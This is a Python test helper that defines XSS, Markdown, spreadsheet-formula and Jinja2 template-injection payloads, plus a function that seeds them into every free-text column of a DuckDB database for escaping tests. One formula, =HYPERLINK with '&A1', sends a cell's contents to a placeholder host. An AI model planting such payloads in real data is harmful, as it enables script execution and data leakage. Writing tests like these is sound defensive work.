"""Hostile text for tests (not a test module): payloads that would run as script in a map,
load an outside image through Markdown, or run as a formula in a spreadsheet, and a seeder
that writes them into every free-text column of a database.

The seeder finds the columns itself (DuckDB's catalogue): every ``VARCHAR`` column that is
not a key, a code, an id or a vocabulary (a CHECK constraint refuses the payload there), so
a text column added later is seeded too.
"""

from __future__ import annotations

import re

from grid.store import TABLES, Store

#: Text that runs as script, or fetches from outside, if it reaches HTML or Markdown unescaped.
HTML_PAYLOADS: tuple[str, ...] = (
    '<img src=x onerror="window.__xss=1">',
    "![p](http://example.org/p.png)",
    "<script>window.__xss=1</script>",
    "[点我](javascript:window.__xss=1)",
    '<svg onload="window.__xss=1">',
    ":red[红] $\\href{http://example.org/k}{k}$",
)
#: Text a spreadsheet runs as a formula (OWASP's CSV injection), as the issue lists them.
FORMULA_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
#: Text that Jinja2 would evaluate (or fail on) if a map's rendered text were compiled as a template
#: again, as branca does (maps/rendered.py): evaluated, ``lipsum.__name__`` is ``generate_lorem_ipsum``.
TEMPLATE_PAYLOADS: tuple[str, ...] = (
    "{{ lipsum.__name__ }}",
    "{% if true %}WG{% endif %}-IF",
    "括号{{未闭合",
    "{# 注释 #}",
)
#: What a template payload shows when it was evaluated.
TEMPLATE_EVALUATED = ("generate_lorem_ipsum", "WG-IF")
PAYLOADS: tuple[str, ...] = HTML_PAYLOADS + FORMULA_PAYLOADS
#: Tables whose text the seeder leaves alone: the log tables record what happened.
UNSEEDED = {"imports", "form_submissions", "login_throttle", "household_history"}
_KEYS = re.compile(r"(^|_)(id|code|key|hash|sha256|scope|status|kind|type|level|role|mode|crs|change|action|"
                   r"category|categories|username|client|satisfaction)$")


def text_columns(store: Store) -> list[tuple[str, str]]:
    """``(table, column)`` of every free-text column the seeder fills."""
    cols = store.query("SELECT table_name, column_name, data_type FROM duckdb_columns()"
                       " WHERE database_name = current_database() AND NOT internal ORDER BY table_name, column_index")
    out = []
    for t, c, dt in cols.itertuples(index=False):
        if t in TABLES and t not in UNSEEDED and dt == "VARCHAR" and not _KEYS.search(c):
            out.append((str(t), str(c)))
    return out


def seed(store: Store, payloads: tuple[str, ...] = PAYLOADS) -> list[tuple[str, str]]:
    """Put ``payloads`` (cycling, each followed by the old text) at the start of every free-text value.

    Columns whose constraints refuse the text (vocabularies) are left as they were.
    Returns the ``(table, column)`` pairs seeded.
    """
    done = []
    for table, col in text_columns(store):
        n = len(payloads)
        cases = " ".join(f"WHEN {i} THEN ?" for i in range(n))
        sql = (f"UPDATE {table} SET {col} = (CASE (rowid % {n}) {cases} END) || ' ' || coalesce({col}, '')")  # noqa: S608
        try:
            with store.transaction() as cur:
                cur.execute(sql, list(payloads))
            done.append((table, col))
        except Exception:  # a CHECK or length constraint: a vocabulary, not free text
            continue
    return done
